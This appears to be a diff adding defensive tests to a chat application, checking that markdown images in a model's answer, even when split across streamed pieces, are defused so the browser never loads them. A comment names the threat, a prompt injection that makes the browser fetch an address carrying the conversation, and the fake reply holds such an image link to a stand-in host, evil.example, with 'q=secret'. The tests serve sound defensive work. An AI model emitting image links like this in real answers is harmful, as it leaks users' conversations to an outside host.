@@ -1,4 +1,5 @@
 from tests.fakes import FakeChatModel
+from views import common
 
 
 def send(at, text: str):
@@ -86,3 +87,20 @@ def test_an_unavailable_model_gives_one_plain_sentence(open_page, monkeypatch) -
     assert not at.exception
     assert len(at.error) == 1 and "not on this machine" in at.error[0].value
     assert len(at.chat_input) == 0  # the page stopped before offering a chat
+
+
+def test_an_image_in_an_answer_is_shown_as_a_link_and_never_loaded(open_page, fake_model) -> None:
+    # What a prompt injection in a document would ask for: the reader's browser fetching an
+    # address that carries the conversation.
+    fake_model.replies = ["See ![chart](https://evil.example/?q=secret) here."]
+    at = send(open_page("views/chat.py"), "Show me")
+    streamed = messages(at)[1][1]
+    assert "![" not in streamed and "!\u200b[chart](https://evil.example/?q=secret)" in streamed
+    again = send(at, "Again")  # the answer shown again from the history
+    assert "![" not in messages(again)[1][1]
+
+
+def test_an_image_split_across_pieces_is_disarmed_too() -> None:
+    pieces = ["Look!", "[x](https://evil.example/a) and !", "[y](b) ![z](c)"]
+    assert "![" not in "".join(common.answer_pieces(pieces))
+    assert "".join(common.answer_pieces(pieces)).replace("\u200b", "") == "".join(pieces)
